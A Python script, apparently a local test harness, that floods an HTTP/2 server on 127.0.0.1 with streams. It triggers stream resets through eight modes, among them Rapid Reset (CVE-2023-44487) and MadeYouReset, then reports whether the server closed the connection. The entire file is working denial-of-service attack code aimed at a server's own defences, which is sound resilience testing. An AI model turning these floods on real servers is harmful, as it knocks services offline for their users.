#!/usr/bin/env python3
"""An HTTP/2 client that opens streams and gets them cancelled, over TLS (ALPN h2).

usage: h2attack.py PORT PATH MODE STREAMS
Every stream is a GET of PATH with END_STREAM; what follows it on the same stream is the
MODE, one of the ways a client can make the server start a request and then cancel it:
  rst     RST_STREAM(CANCEL) from the client (Rapid Reset, CVE-2023-44487)
  zero    WINDOW_UPDATE of 0, which the server must answer with a reset (MadeYouReset)
  overflow  WINDOW_UPDATE of 2^31-1, overflowing the stream's window
  data    a DATA frame on the stream the client has already ended
  headers a second HEADERS without END_STREAM on that stream
  clen    (the GET has no END_STREAM) content-length: 1 and a DATA frame of 2 bytes
  refused nothing: streams pile up past SETTINGS_MAX_CONCURRENT_STREAMS
  prio    PRIORITY making the stream depend on itself
Prints one JSON line: streams sent before the server closed, whether it closed, and the
client's port.
"""
import json
import socket
import ssl
import struct
import sys
import time

import hpack

port, path, mode, streams = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
BATCH = 50
END_STREAM = 0x1
END_HEADERS = 0x4


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


tls = ssl.create_default_context()
tls.check_hostname = False
tls.verify_mode = ssl.CERT_NONE
tls.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=5)
sock = tls.wrap_socket(raw, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
local_port = sock.getsockname()[1]

enc = hpack.Encoder()
headers = [(":method", "GET"), (":path", path), (":scheme", "https"),
           (":authority", "localhost")]
sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))


def one_stream(sid):
    if mode == "clen":
        block = enc.encode(headers + [("content-length", "1")])
        return frame(0x1, END_HEADERS, sid, block) + frame(0x0, END_STREAM, sid, b"xx")
    out = frame(0x1, END_HEADERS | END_STREAM, sid, enc.encode(headers))
    if mode == "rst":
        out += frame(0x3, 0, sid, struct.pack(">I", 8))
    elif mode == "zero":
        out += frame(0x8, 0, sid, struct.pack(">I", 0))
    elif mode == "overflow":
        out += frame(0x8, 0, sid, struct.pack(">I", 0x7fffffff))
    elif mode == "data":
        out += frame(0x0, 0, sid, b"x")
    elif mode == "headers":
        out += frame(0x1, END_HEADERS, sid, enc.encode(headers))
    elif mode == "prio":
        out += frame(0x2, 0, sid, struct.pack(">IB", sid, 15))
    elif mode != "refused":
        sys.exit(f"unknown mode {mode}")
    return out


sent, closed, sid = 0, False, 1
try:
    while sent < streams:
        out = b""
        for _ in range(min(BATCH, streams - sent)):
            out += one_stream(sid)
            sid += 2
            sent += 1
        sock.sendall(out)
except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
    closed = True

# Whatever is left: the server either closes (EOF) or keeps the connection open.
deadline = time.monotonic() + 3
sock.settimeout(0.5)
while not closed and time.monotonic() < deadline:
    try:
        if sock.recv(65536) == b"":
            closed = True
    except socket.timeout:
        continue
    except (ConnectionResetError, ssl.SSLError, OSError):
        closed = True
print(json.dumps({"sent": sent, "closed": closed, "port": local_port}))
